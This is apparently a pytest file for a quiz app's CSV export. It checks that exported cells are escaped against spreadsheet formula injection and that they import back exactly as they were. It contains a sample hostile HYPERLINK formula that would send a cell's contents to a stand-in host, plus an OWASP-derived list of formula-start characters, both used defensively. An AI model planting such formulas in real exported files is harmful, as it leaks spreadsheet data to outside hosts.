"""CSVs lunarquiz writes hold no formula a spreadsheet would run, and ``import`` reads them back exactly.

(lunarquiz.spreadsheet_cells is imported in the tests of its own functions, so that the others run,
and fail, on a lunarquiz without it.)
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from lunarquiz.banks.exporters import export_bank
from lunarquiz.banks.importers import read_source
from lunarquiz.commands.results import run_results
from lunarquiz.core.model import Bank, Kind, Question
from lunarquiz.store.store import Store

from .store_helpers import play, question

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What OWASP's "CSV Injection" page lists: a cell starting with one of these may run as a formula."""

HOSTILE = '=HYPERLINK("http://x.invalid/"&A1,"Hi")'

TEXTS = [
    "=1+1",
    "+33 1 23",
    "-5",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'",
    "''",
    "'=1+1",
    "'tis the season",
    "  =1+1",
    " -x",
    "plain",
    "",
    "a;=1+1",
    "2-1",
    "it's = fine",
]


def data_cells(text: str) -> list[str]:
    """Every cell of the rows after the header of CSV ``text``."""
    return [cell for row in list(csv.reader(io.StringIO(text)))[1:] for cell in row]


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) or cell.lstrip().startswith(FORMULA_STARTS)


@pytest.mark.parametrize("text", TEXTS)
def test_a_marked_cell_reads_back_as_it_was(text: str) -> None:
    from lunarquiz.spreadsheet_cells import read_cell, text_cell

    assert read_cell(text_cell(text)) == text
    assert not runs_as_formula(text_cell(text))


def test_only_what_needs_it_is_marked() -> None:
    from lunarquiz.spreadsheet_cells import needs_mark, read_cell

    assert [text for text in TEXTS if needs_mark(text)] == TEXTS[:12]
    assert read_cell("'tis the season") == "'tis the season"  # an apostrophe of the text itself stays
    assert read_cell("'=SUM(A1)") == "=SUM(A1)"  # the mark a spreadsheet puts on text comes off


def tricky_bank() -> Bank:
    questions = (
        Question(id="f1", prompt="=1+1", kind=Kind.SINGLE, answers=("-5",), wrong=("+5", "@five", "'5")),
        Question(id="f2", prompt="-1 or +1?", kind=Kind.MULTIPLE, answers=("-1", "+1"), wrong=("'=0",)),
        Question(
            id="f3",
            prompt="'Quoted' or not?",
            kind=Kind.SINGLE,
            answers=("'tis",),
            wrong=("=HYPERLINK(1)",),
            explanation="=A1",
            tags=("=tag", "-minus"),
            source="@source",
        ),
        Question(id="f4", prompt="Is 2-1 one?", kind=Kind.TRUE_FALSE, answers=("True",), wrong=("False",)),
    )
    return Bank(id="formulas", title="Formulas", questions=questions, tags=("-minus", "=tag"))


def test_export_to_csv_marks_every_cell_a_spreadsheet_would_run() -> None:
    text = export_bank(tricky_bank(), "csv").text
    cells = data_cells(text)
    assert "'=1+1" in cells and "'-5" in cells and "''=0" in cells and f"'{'=HYPERLINK(1)'}" in cells
    assert not [cell for cell in cells if runs_as_formula(cell)]
    body = text.splitlines()[1:]
    assert all(line.startswith('"') and line.endswith('"') for line in body)  # every cell quoted
    assert text.splitlines()[0].startswith("id,prompt,answer,answer2,")  # the header stays plain


def test_an_exported_bank_imports_back_the_same() -> None:
    bank = tricky_bank()
    imported = read_source("csv", "formulas.csv", export_bank(bank, "csv").text)
    assert imported.problems == ()
    assert imported.questions == bank.questions


def test_a_spreadsheet_may_mark_cells_of_a_handwritten_csv() -> None:
    text = "prompt,answer,wrong1\n'=1+1,'-2,'tis\n"
    (read,) = read_source("csv", "sheet.csv", text).questions
    assert (read.prompt, read.answers, read.wrong) == ("=1+1", ("-2",), ("'tis",))


def test_numbers_lunarquiz_formats_are_not_marked_but_text_in_their_column_is() -> None:
    from lunarquiz.spreadsheet_cells import write_table

    out = io.StringIO()
    write_table(out, ("name", "points"), [("-2", "-2"), ("x", "0.125"), ("y", "=1+1"), ("z", "-")], numbers={"points"})
    assert out.getvalue().splitlines() == [
        "name,points",
        '"\'-2","-2"',
        '"x","0.125"',
        '"y","\'=1+1"',
        '"z","\'-"',
    ]


def test_results_csv_marks_a_hostile_player_name(tmp_path: Path) -> None:
    with Store.open(tmp_path / "lunarquiz.db") as store:
        play(store, [question("q1", bank="space")], {"q1": (True, 2.0)}, player=HOSTILE)
    out, err = io.StringIO(), io.StringIO()
    assert run_results(str(tmp_path), player=None, bank=None, since=None, as_csv=True, out=out, err=err) == 0
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [row["player"] for row in rows] == ["'" + HOSTILE]
    assert not [cell for row in rows for cell in row.values() if runs_as_formula(cell)]
    assert (rows[0]["correct"], rows[0]["seconds"]) == ("1", "2.000")
    assert rows[0]["points"].isdigit()
